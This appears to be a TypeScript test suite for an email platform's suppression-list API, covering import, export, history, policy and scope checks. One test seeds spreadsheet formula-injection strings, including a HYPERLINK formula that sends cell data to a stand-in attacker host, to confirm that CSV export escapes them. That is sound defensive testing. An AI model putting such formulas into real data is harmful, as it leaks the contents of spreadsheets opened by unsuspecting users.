import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { test } from 'node:test';
import { forEachDialect } from '../support/dialects.js';
import { startPlatform, type TestPlatform } from '../support/platform.js';

const send = (p: TestPlatform, over: Record<string, unknown> = {}) =>
  p.request('POST', '/v1/messages', { from: 'hello@example.com', to: 'ann@example.net', subject: 'Hi', text: 'Hello', ...over });

async function exportJson(p: TestPlatform) {
  const r = await p.request('GET', '/v1/suppressions/export?format=json');
  assert.equal(r.status, 200);
  return r.body.entries as any[];
}

async function wipe(p: TestPlatform) {
  for (const e of await exportJson(p)) {
    const r = await p.request('DELETE', `/v1/suppressions/${encodeURIComponent(e.address)}?scope=${e.scope}`);
    assert.ok(r.status === 200 || r.status === 404, JSON.stringify(r.body));
  }
  assert.deepEqual(await exportJson(p), []);
}

async function seed(p: TestPlatform) {
  const added = await p.request('POST', '/v1/suppressions', {
    entries: [
      { address: 'Manual@Example.net', reason: 'manual', source: 'ticket 42, "quoted"' },
      { address: 'news@example.net', domain: 'example.com', reason: 'unsubscribe' },
      { address: 'promo@example.net', stream: 'marketing', reason: 'complaint' },
      { address: 'both@example.net', scope: 'identity', domain: 'example.com', stream: 'cold' },
    ],
  });
  assert.equal(added.status, 201, JSON.stringify(added.body));
  const auto = await p.platform.suppressions.suppress({
    tenantId: p.tenantId,
    address: 'gone@example.net',
    reason: 'hard_bounce',
    sourceEventId: 'evt_01KAXXXXXXXXXXXXXXXXXXXXXX',
  });
  assert.equal(auto.suppressed, true);
}

forEachDialect(
  'export, wipe and import restore the identical list, as JSON and as CSV',
  async (t, dialect) => {
    const p = await startPlatform(t, { dialect });
    await seed(p);
    const original = await exportJson(p);
    assert.equal(original.length, 5);
    assert.equal(original.find((e) => e.address === 'manual@example.net').source, 'ticket 42, "quoted"');

    await wipe(p);
    const fromJson = await p.request('POST', '/v1/suppressions/import', { version: 1, entries: original });
    assert.equal(fromJson.status, 200, JSON.stringify(fromJson.body));
    assert.deepEqual([fromJson.body.added, fromJson.body.existing], [5, 0]);
    assert.deepEqual(await exportJson(p), original);

    const csv = await p.request('GET', '/v1/suppressions/export?format=csv');
    assert.match(csv.headers.get('content-type') ?? '', /^text\/csv/);
    assert.match(csv.body, /^address,scope,domain,stream,reason,source,created_at,id\r\n/);
    await wipe(p);
    const fromCsv = await p.request('POST', '/v1/suppressions/import?format=csv', csv.body, { 'content-type': 'text/csv' });
    assert.equal(fromCsv.status, 200, JSON.stringify(fromCsv.body));
    assert.deepEqual(await exportJson(p), original);

    // Importing the same export again changes nothing: every row is already there.
    const again = await p.request('POST', '/v1/suppressions/import', { entries: original });
    assert.deepEqual([again.body.added, again.body.existing], [0, 5]);
  },
  test,
);

test('suppressed sends are refused for each scope, with reason, scope and since; others still go', async (t) => {
  const p = await startPlatform(t);
  await p.platform.domains.addDomain(p.tenantId, 'other.org');
  await p.platform.suppressions.add(null, [{ address: 'global@example.net', reason: 'complaint', source: 'operator' }], 'cli');
  await p.request('POST', '/v1/suppressions', { address: 'tenant@example.net', reason: 'hard_bounce' });
  await p.request('POST', '/v1/suppressions', { address: 'domain@example.net', domain: 'example.com', reason: 'unsubscribe' });
  await p.request('POST', '/v1/suppressions', { address: 'stream@example.net', stream: 'marketing', reason: 'unsubscribe' });

  const cases: [string, Record<string, unknown>, string | null, string | null][] = [
    ['global@example.net', {}, 'global', 'complaint'],
    ['tenant@example.net', { from: 'hello@other.org' }, 'tenant', 'hard_bounce'],
    ['domain@example.net', {}, 'identity', 'unsubscribe'],
    ['domain@example.net', { from: 'hello@news.example.com' }, 'identity', 'unsubscribe'],
    ['domain@example.net', { from: 'hello@other.org' }, null, null],
    ['stream@example.net', { stream: 'marketing' }, 'identity', 'unsubscribe'],
    ['stream@example.net', {}, null, null],
  ];
  for (const [to, over, scope, reason] of cases) {
    const r = await send(p, { to, ...over });
    assert.equal(r.status, 202, JSON.stringify(r.body));
    const rcpt = r.body.recipients[0];
    const label = `${to} ${JSON.stringify(over)}`;
    if (!scope) {
      assert.equal(rcpt.state, 'queued', label);
      continue;
    }
    assert.equal(rcpt.state, 'suppressed', label);
    assert.equal(rcpt.suppression.scope, scope, label);
    assert.equal(rcpt.suppression.reason, reason, label);
    assert.ok(!Number.isNaN(Date.parse(rcpt.suppression.since)), label);
    assert.match(rcpt.reason, new RegExp(`suppressed \\(${scope}`));
  }
  const check = await p.request('GET', '/v1/suppressions/check?address=GLOBAL@example.net');
  assert.equal(check.body.suppressed, true);
  assert.equal(check.body.entries[0].scope, 'global');
});

test('the list pages by cursor and filters by address, reason and scope', async (t) => {
  const p = await startPlatform(t);
  await seed(p);
  const first = await p.request('GET', '/v1/suppressions?limit=2');
  assert.equal(first.body.data.length, 2);
  const second = await p.request('GET', `/v1/suppressions?limit=10&after=${first.body.next_cursor}`);
  assert.equal(second.body.data.length, 3);
  assert.equal(second.body.next_cursor, null);
  assert.deepEqual(
    (await p.request('GET', '/v1/suppressions?reason=hard_bounce')).body.data.map((e: any) => e.address),
    ['gone@example.net'],
  );
  assert.equal((await p.request('GET', '/v1/suppressions?scope=identity')).body.data.length, 3);
  assert.equal((await p.request('GET', '/v1/suppressions?address=MANUAL@example.net')).body.data.length, 1);
  const bad = await p.request('GET', '/v1/suppressions?scope=planet');
  assert.equal(bad.status, 422);
  assert.equal(bad.body.errors[0].path, '/query/scope');
});

test('an import with bad rows is refused whole, each error naming its row; a dry run changes nothing', async (t) => {
  const p = await startPlatform(t);
  const csv =
    'address,reason,scope\r\nok@example.net,manual,\r\nnot-an-address,manual,\r\nfine@example.net,vacation,\r\nx@example.net,,global\r\n';
  const r = await p.request('POST', '/v1/suppressions/import', csv, { 'content-type': 'text/csv' });
  assert.equal(r.status, 422);
  assert.deepEqual(
    r.body.errors.map((e: any) => e.path),
    ['/rows/2/address', '/rows/3/reason', '/rows/4/scope'],
  );
  assert.deepEqual(await exportJson(p), []);

  const json = await p.request('POST', '/v1/suppressions/import?dry_run=true', {
    entries: [{ address: 'a@example.net' }, { address: 'b@example.net' }],
  });
  assert.equal(json.status, 200);
  assert.deepEqual([json.body.dry_run, json.body.added], [true, 2]);
  assert.deepEqual(await exportJson(p), []);

  const dup = await p.request('POST', '/v1/suppressions/import', { entries: [{ address: 'a@example.net' }, { address: 'A@example.net' }] });
  assert.equal(dup.status, 422);
  assert.equal(dup.body.errors[0].path, '/entries/1/address');
});

test('history records every add, repeat, removal and import with who, before and after', async (t) => {
  const p = await startPlatform(t);
  const keyId = (await p.platform.tenants.authenticate(p.key))!.keyId;
  const first = await p.request('POST', '/v1/suppressions', { address: 'h@example.net', reason: 'manual' });
  assert.equal(first.status, 201);
  const repeat = await p.request('POST', '/v1/suppressions', { address: 'h@example.net', reason: 'complaint' });
  assert.equal(repeat.status, 200);
  assert.equal(repeat.body.reason, 'manual', 'the first reason is kept');
  assert.equal(repeat.body.created, false);
  await p.platform.suppressions.suppress({ tenantId: p.tenantId, address: 'h@example.net', reason: 'hard_bounce', sourceEventId: 'evt_1' });
  assert.equal((await p.request('DELETE', '/v1/suppressions/h@example.net')).status, 200);
  assert.equal((await p.request('DELETE', '/v1/suppressions/h@example.net')).status, 404);
  await p.request('POST', '/v1/suppressions/import', { entries: [{ address: 'h@example.net' }] });

  const h = (await p.request('GET', '/v1/suppressions/history?address=h@example.net')).body.data;
  assert.deepEqual(
    h.map((c: any) => [c.action, c.actor, c.reason]),
    [
      ['add', keyId, 'manual'],
      ['repeat', keyId, 'complaint'],
      ['repeat', 'evt_1', 'hard_bounce'],
      ['remove', keyId, 'manual'],
      ['import', keyId, 'import'],
    ],
  );
  assert.equal(h[0].before, null);
  assert.equal(h[0].after.reason, 'manual');
  assert.equal(h[3].after, null);
  assert.equal(h[3].before.address, 'h@example.net');
});

test('removing with a domain that is not a domain name is refused with 422 and removes nothing', async (t) => {
  const p = await startPlatform(t);
  assert.equal((await p.request('POST', '/v1/suppressions', { address: 'a@example.net', reason: 'manual' })).status, 201);
  const r = await p.request('DELETE', '/v1/suppressions/a@example.net?domain=bad_domain');
  assert.equal(r.status, 422, JSON.stringify(r.body));
  assert.deepEqual(r.body.errors, [{ path: '/query/domain', message: 'is not a domain name' }]);
  assert.deepEqual(
    (await exportJson(p)).map((e) => [e.address, e.scope]),
    [['a@example.net', 'tenant']],
  );
});

test('a CSV export escapes cells a spreadsheet would run as formulas, and the import restores them', async (t) => {
  const p = await startPlatform(t);
  const sources = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', '+1+1', '-2', '@SUM(A1)', "'=already quoted", "it's fine"];
  const added = await p.request('POST', '/v1/suppressions', {
    entries: sources.map((source, i) => ({ address: `f${i}@example.net`, reason: 'manual', source })),
  });
  assert.equal(added.status, 201, JSON.stringify(added.body));
  const original = await exportJson(p);

  const csv = (await p.request('GET', '/v1/suppressions/export?format=csv')).body as string;
  assert.ok(csv.includes('"\'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"'), csv);
  assert.ok(csv.includes(`"''=already quoted"`), csv);
  assert.ok(csv.includes(",it's fine,"), csv);
  const cells = csv.split(/\r\n/).flatMap((line) => line.split(','));
  assert.deepEqual(
    cells.filter((c) => /^"?[=+\-@\t\r]/.test(c)),
    [],
  );

  await wipe(p);
  const imported = await p.request('POST', '/v1/suppressions/import?format=csv', csv, { 'content-type': 'text/csv' });
  assert.equal(imported.status, 200, JSON.stringify(imported.body));
  assert.deepEqual(await exportJson(p), original);
  assert.deepEqual((await exportJson(p)).map((e) => e.source).sort(), [...sources].sort());
});

test('the automatic-suppression policy is on by default and settable per tenant', async (t) => {
  const p = await startPlatform(t);
  assert.deepEqual((await p.request('GET', '/v1/suppressions/policy')).body, { suppress_on: { hard_bounce: true, complaint: true } });
  const put = await p.request('PUT', '/v1/suppressions/policy', { suppress_on: { hard_bounce: false } });
  assert.deepEqual(put.body, { suppress_on: { hard_bounce: false, complaint: true } });
  const bounce = await p.platform.suppressions.suppress({ tenantId: p.tenantId, address: 'b@example.net', reason: 'hard_bounce' });
  assert.deepEqual(bounce, { suppressed: false, skipped: 'policy' });
  const complaint = await p.platform.suppressions.suppress({ tenantId: p.tenantId, address: 'c@example.net', reason: 'complaint' });
  assert.equal(complaint.suppressed, true);
  assert.deepEqual(
    (await exportJson(p)).map((e) => [e.address, e.scope, e.reason]),
    [['c@example.net', 'tenant', 'complaint']],
  );
});

test('the OpenAPI document lists the suppression routes, and the unsubscribe routes as public', async (t) => {
  const p = await startPlatform(t);
  const openapi = (await fetch(`${p.url}/openapi.json`).then((r) => r.json())) as any;
  for (const path of ['/v1/suppressions', '/v1/suppressions/export', '/v1/suppressions/import', '/v1/suppressions/history']) {
    assert.ok(openapi.paths[path], path);
  }
  assert.ok(openapi.paths['/v1/suppressions/{address}'].delete);
  assert.deepEqual(openapi.paths['/v1/unsubscribe/{token}'].post.security, []);
  const noKey = await fetch(`${p.url}/v1/suppressions`);
  assert.equal(noKey.status, 401);
});

test("another provider's suppression export imports with ?format=, reasons mapped, and then suppresses sends", async (t) => {
  const p = await startPlatform(t);
  const dump = JSON.parse(readFileSync(join(import.meta.dirname, '..', 'fixtures', 'suppression', 'postmark-dump.json'), 'utf8'));
  const postmark = await p.request('POST', '/v1/suppressions/import?format=postmark', dump);
  assert.equal(postmark.status, 200, JSON.stringify(postmark.body));
  assert.equal(postmark.body.added, 4);
  const sesCsv = readFileSync(join(import.meta.dirname, '..', 'fixtures', 'suppression', 'ses.csv'), 'utf8');
  const ses = await p.request('POST', '/v1/suppressions/import?format=ses', sesCsv, { 'content-type': 'text/csv' });
  assert.equal(ses.status, 200, JSON.stringify(ses.body));
  assert.equal(ses.body.added, 2);
  const list = await p.request('GET', '/v1/suppressions?limit=100');
  const reasons = Object.fromEntries(list.body.data.map((e: { address: string; reason: string }) => [e.address, e.reason]));
  assert.deepEqual(reasons, {
    'hard@example.net': 'hard_bounce',
    'spam@example.net': 'complaint',
    'left@example.net': 'unsubscribe',
    'ops@example.net': 'manual',
    'bounced@example.net': 'hard_bounce',
    'complained@example.net': 'complaint',
  });
  const sent = await p.request('POST', '/v1/messages', { from: 'a@example.com', to: 'complained@example.net', subject: 's', text: 't' });
  assert.equal(sent.body.recipients[0].state, 'suppressed');
  const bad = await p.request('POST', '/v1/suppressions/import?format=resend', { data: [{ email: 'x@example.net', origin: 'vacation' }] });
  assert.equal(bad.status, 422);
  assert.deepEqual(bad.body.errors, [{ path: '/data/0/origin', message: '"vacation" is not a resend reason Postwarden maps' }]);
});
